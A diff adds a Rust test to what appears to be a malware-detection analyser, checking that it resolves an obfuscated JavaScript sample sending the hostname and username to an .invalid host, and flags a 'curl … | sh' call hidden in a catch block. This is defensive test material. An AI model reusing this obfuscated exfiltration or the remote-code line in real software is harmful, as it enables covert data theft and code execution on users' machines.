@@ -100,3 +100,25 @@ fn known_codings_take_no_patience() {
     assert!(outcome.cut_off);
     assert_eq!(subject(&outcome, Act::Fetch), "https://collect.invalid/three/");
 }
+
+#[test]
+fn a_rotated_table_is_the_same_for_functions_that_are_called_later() {
+    let code = |handler: &str| {
+        format!(
+            "(function(m, x) {{ const w = m(); while (!![]) {{ try {{ const q = parseInt(g(0x1)) / 1; if (q === x) break; else w['push'](w['shift']()); }}\n\
+             catch (e) {{ {handler} }} }} }}(t, 5));\n\
+             function t() {{ const b = ['https://0.invalid/a', 'https://1.invalid/a', '5zz', 'https://2.invalid/a']; t = function() {{ return b; }}; return t(); }}\n\
+             function g(i) {{ i = i - 0x1; const r = t(); let w = r[i]; return w; }}\n\
+             exports.f = function() {{ const k = g; require('https').get(k(0x2) + require('os').hostname() + require('os').userInfo().username); }};"
+        )
+    };
+    for handler in ["w['push'](w['shift']());", ""] {
+        let outcome = outcome(Language::JavaScript, &code(handler));
+        let asks = outcome.events.iter().filter(|e| matches!(e.act, Act::Fetch | Act::Send));
+        let subjects: Vec<&str> = asks.filter_map(|e| e.subject.as_deref()).collect();
+        assert!(subjects.iter().all(|s| s.starts_with("https://2.invalid/a")) && !subjects.is_empty(), "{subjects:?}");
+    }
+    // What only a handler does is still told, when it is reached last.
+    let late = "try { const a = 1 + 1; } catch (e) { require('child_process').exec('curl https://h.invalid/x | sh'); }";
+    assert!(rules(Language::JavaScript, late).contains(&"flow-remote-code"), "{:?}", rules(Language::JavaScript, late));
+}
